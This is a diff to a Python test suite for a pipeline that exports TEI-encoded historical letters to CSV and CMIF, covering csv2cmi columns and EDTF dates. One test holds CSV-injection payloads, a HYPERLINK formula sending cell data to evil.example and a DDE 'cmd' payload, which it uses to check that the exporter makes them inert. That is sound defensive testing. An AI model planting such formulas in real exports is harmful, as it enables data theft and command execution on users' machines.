@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import csv as csvlib
 import io
+import re
 import shutil
 from pathlib import Path
 
@@ -363,9 +364,12 @@ def test_network_page(out):
 
 # ---------------------------------------------------------------------------- CSV
 
-HEADER = ["id", "date", "date_text", "type", "senders", "recipients", "intermediaries",
-          "participants_or_authors", "places", "title", "subject", "summary",
-          "sender_ids", "recipient_ids", "source"]
+# csv2cmi's columns first (tests/test_csv2cmi.py checks them against its documentation).
+HEADER = ["sender", "senderID", "senderPlace", "senderPlaceID", "senderDate",
+          "addressee", "addresseeID", "addresseePlace", "addresseePlaceID", "addresseeDate",
+          "edition", "key", "note",
+          "id", "type", "date", "date_text", "intermediaries", "participants", "authors",
+          "places", "title", "subject", "summary", "source"]
 
 
 def read_csv(path: Path) -> list[dict[str, str]]:
@@ -382,28 +386,32 @@ def test_csv_rows_and_columns(out):
     by_id = {r["id"]: r for r in rows}
 
     first = by_id[ORDER[0]]
-    assert first["date"] == "1948-10-21" and first["date_text"] == "October 21, 1948"
+    assert first["date"] == first["senderDate"] == "1948-10-21" and first["date_text"] == "October 21, 1948"
     assert first["type"] == "cable"
     assert first["intermediaries"] == "Kuznetsov|Terebin"
     assert first["places"] == "Moscow"
     assert first["title"] == "Cable, Stalin [via Kuznetsov] to Mao Zedong [via Terebin]"
     assert first["summary"].startswith("Kuznetsov (Stalin) tells Terebin (Andrei Orlov) that")
     assert first["source"] == "sino-soviet-relations.txt, lines 12-16"
+    assert first["edition"] == SETTINGS["title"]
+    assert first["key"] == SETTINGS["base_url"] + ORDER[0] + ".html"  # csv2cmi: correspDesc/@ref
 
-    # Names stay as written; the identity is in the id columns.
+    # The parties by the register's preferred name (as in the CMIF); as written in the title.
     filippov = by_id[FILIPPOV]
-    assert filippov["senders"] == "Mao" and filippov["recipients"] == "Filippov"
-    assert filippov["sender_ids"] == MAO_GND
-    assert filippov["recipient_ids"] == STALIN_VIAF
+    assert filippov["sender"] == "Mao Zedong" and filippov["addressee"] == "Joseph Stalin"
+    assert filippov["title"].startswith("Cable, Mao to Filippov")
+    assert filippov["senderID"] == MAO_GND
+    assert filippov["addresseeID"] == STALIN_VIAF
     assert "6 January 1949" in filippov["summary"] and "\n" not in filippov["summary"]
 
     assert by_id[ORDER[2]]["subject"] == "Nanjing Peace Proposal"
     assert by_id[ORDER[2]]["summary"] == ""
     statement = by_id["statement_1949-01-18"]
-    assert statement["senders"] == statement["recipients"] == statement["sender_ids"] == ""
+    assert statement["sender"] == statement["addressee"] == statement["senderID"] == statement["senderDate"] == ""
+    assert statement["date"] == "1949-01-18"  # the document's date, though it was not sent
     assert statement["places"] == "Nanjing"
-    assert by_id[ORDER[4]]["participants_or_authors"] == "Anastas Mikoyan|Mao Zedong"
-    assert by_id[ORDER[5]]["participants_or_authors"] == "Anastas Mikoyan"
+    assert by_id[ORDER[4]]["participants"] == "Anastas Mikoyan|Mao Zedong"
+    assert by_id[ORDER[5]]["authors"] == "Anastas Mikoyan" and by_id[ORDER[5]]["participants"] == ""
 
 
 def test_csv_is_rfc4180(out):
@@ -412,9 +420,99 @@ def test_csv_is_rfc4180(out):
     assert lines[-1] == b"" and len(lines) == 1 + 1 + len(ORDER)
     assert b"\n" not in raw.replace(b"\r\n", b"")
     # Fields with a comma or a quote are quoted, quotes doubled.
-    notes = next(line for line in lines if line.startswith(ORDER[5].encode()))
+    notes = next(line for line in lines if ORDER[5].encode() in line)
     assert b'wrote that ""the path' in notes
     assert b',"October 21, 1948",' in raw
+
+
+def test_csv_with_a_byte_order_mark_for_spreadsheets(tmp_path):
+    path = transform.Stylesheets().csv(FIXTURE, tmp_path / "l.csv", dict(SETTINGS, csv_bom="yes"))
+    raw = path.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbfsender,") and raw.count(b"\xef\xbb\xbf") == 1
+    assert raw[3:] == transform.Stylesheets().csv(FIXTURE, tmp_path / "m.csv", SETTINGS).read_bytes()
+
+
+def test_csv_delimiter_is_a_setting(tmp_path):
+    path = transform.Stylesheets().csv(FIXTURE, tmp_path / "l.csv", dict(SETTINGS, csv_delimiter=";"))
+    rows = list(csvlib.DictReader(io.StringIO(path.read_text("utf-8"), newline="")))
+    assert rows[0]["intermediaries"] == "Kuznetsov;Terebin"
+    assert rows[4]["participants"] == "Anastas Mikoyan;Mao Zedong"
+
+
+HOSTILE = {
+    "title": ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "'=HYPERLINK"),
+    "summary": ("+SUM(1+1)*cmd|' /C calc'!A0", "'+SUM"),
+    "subject": ("-2+3", "'-2+3"),
+    "sender": ("@SUM(1,1)", "'@SUM"),
+    "quoted": ("'=1+1", "''=1+1"),
+}
+
+
+def test_no_csv_cell_starts_a_formula_and_the_tei_keeps_the_text(tmp_path):
+    """OWASP CSV injection: =, +, -, @ (and tab, CR) at the start of a cell are made inert
+    with a leading ', in every column; the TEI is not changed."""
+    tei = tmp_path / "tei"
+    shutil.copytree(FIXTURE, tei)
+    letter = tei / "letters" / f"{FILIPPOV}.xml"
+    source = letter.read_text("utf-8")
+    hostile = {k: v[0].replace("&", "&amp;").replace("<", "&lt;") for k, v in HOSTILE.items()}
+    source = source.replace('<title type="entry">Cable, Mao to Filippov [Stalin]</title>',
+                            f'<title type="entry">{hostile["title"]}</title>')
+    source = re.sub(r"<abstract>\s*<p>", lambda m: f"{m.group(0)}{hostile['summary']} ", source, count=1)
+    source = source.replace("</keywords>", f'<term type="subject">{hostile["subject"]}</term></keywords>')
+    assert hostile["title"] in source and hostile["subject"] in source
+    letter.write_text(source, "utf-8")
+    persons = tei / "register" / "persons.xml"
+    persons.write_text(persons.read_text("utf-8").replace(">Mao Zedong</persName>", f">{hostile['sender']}</persName>", 1),
+                       "utf-8")
+    path = transform.Stylesheets().csv(tei, tmp_path / "l.csv", SETTINGS)
+    rows = read_csv(path)
+    row = next(r for r in rows if r["id"] == FILIPPOV)
+    assert row["title"] == "'" + HOSTILE["title"][0]
+    assert row["summary"].startswith("'" + HOSTILE["summary"][0])
+    assert row["subject"] == "'" + HOSTILE["subject"][0]
+    assert row["sender"] == "'" + HOSTILE["sender"][0]
+    for r in rows:
+        for column, cell in r.items():
+            assert not cell[:1] in ("=", "+", "-", "@", "\t", "\r"), (r["id"], column, cell)
+    # The TEI still says what the listing said.
+    tree = etree.parse(str(letter))
+    assert tree.xpath("string(//t:title[@type='entry'])", namespaces=NS) == HOSTILE["title"][0]
+    assert tree.xpath("string(//t:abstract/t:p)", namespaces=NS).startswith(HOSTILE["summary"][0])
+
+
+def test_csv_dates_in_edtf(tmp_path):
+    """TEI dates → ISO/EDTF as csv2cmi reads them; tests/test_edtf.py reads them back."""
+    tei = tmp_path / "tei"
+    shutil.copytree(FIXTURE, tei)
+    letter = tei / "letters" / f"{ORDER[2]}.xml"
+    source = letter.read_text("utf-8")
+    exact = '<date when="1949-01-15">January 15, 1949</date>'
+    cases = {
+        '<date when="1949-01-15" cert="low">x</date>': "1949-01-15?",
+        '<date when="1949-01" precision="low">x</date>': "1949-01~",
+        '<date when="1949" cert="medium" precision="low">x</date>': "1949%",
+        '<date notBefore="1949-01-15" notAfter="1949-01-20">x</date>': "[1949-01-15..1949-01-20]",
+        '<date notAfter="1949-01-20">x</date>': "[..1949-01-20]",
+        '<date notBefore="1949-01-15" cert="low">x</date>': "[1949-01-15?..]",
+        '<date from="1949-01-15" to="1949-01-20">x</date>': "1949-01-15/1949-01-20",
+        '<date from="1949-01-15">x</date>': "1949-01-15/..",
+        '<date>n.d.</date>': "",
+    }
+    st = transform.Stylesheets()
+    for date, expected in cases.items():
+        letter.write_text(source.replace(f"</persName>\n          {exact}", f"</persName>\n          {date}"), "utf-8")
+        row = next(r for r in read_csv(st.csv(tei, tmp_path / "l.csv", SETTINGS)) if r["id"] == ORDER[2])
+        assert row["senderDate"] == row["date"] == expected, date
+        if expected:
+            from pipeline import edtf
+            read_back = edtf.parse(expected).attributes()
+            written = dict(etree.fromstring(date.replace("<date", '<date xmlns="x"')).attrib)
+            written = {k: v for k, v in written.items() if k != "cert" or v != "high"}
+            assert {k: v for k, v in read_back.items() if k not in ("cert", "precision")} == \
+                   {k: v for k, v in written.items() if k not in ("cert", "precision")}
+            assert ("cert" in read_back) == ("cert" in written)
+            assert ("precision" in read_back) == ("precision" in written)
 
 
 # ---------------------------------------------------------------------------- CMIF
@@ -583,8 +681,9 @@ def test_module_functions_share_one_compilation(tmp_path):
 
 
 def test_date_ranges_and_uncertainty(tmp_path):
-    """A range is 'start/end' in the CSV and keeps its attributes in CMIF; TEI's cert="medium"
-    becomes the only value CMIF allows, "low"."""
+    """A range notBefore/notAfter is the EDTF set '[start..end]' in the CSV (an interval
+    'start/end' would be from/to) and keeps its attributes in CMIF; TEI's cert="medium"
+    becomes '?' in the CSV and the only value CMIF allows, "low"."""
     tei = tmp_path / "tei"
     shutil.copytree(FIXTURE, tei)
     letter = tei / "letters" / f"{ORDER[2]}.xml"
@@ -599,7 +698,7 @@ def test_date_ranges_and_uncertainty(tmp_path):
     st.csv(tei, tmp_path / "l.csv", SETTINGS)
     st.cmif(tei, tmp_path / "c.xml", SETTINGS)
     row = next(r for r in read_csv(tmp_path / "l.csv") if r["id"] == ORDER[2])
-    assert (row["date"], row["date_text"]) == ("1949-01-15/1949-01-20", "mid-January 1949")
+    assert (row["date"], row["date_text"]) == ("[1949-01-15?..1949-01-20?]", "mid-January 1949")
     date = etree.parse(str(tmp_path / "c.xml")).xpath(
         f"//t:correspDesc[@ref='{SETTINGS['base_url']}{ORDER[2]}.html']//t:date", namespaces=NS)[0]
     assert dict(date.attrib) == {"notBefore": "1949-01-15", "notAfter": "1949-01-20", "cert": "low"}
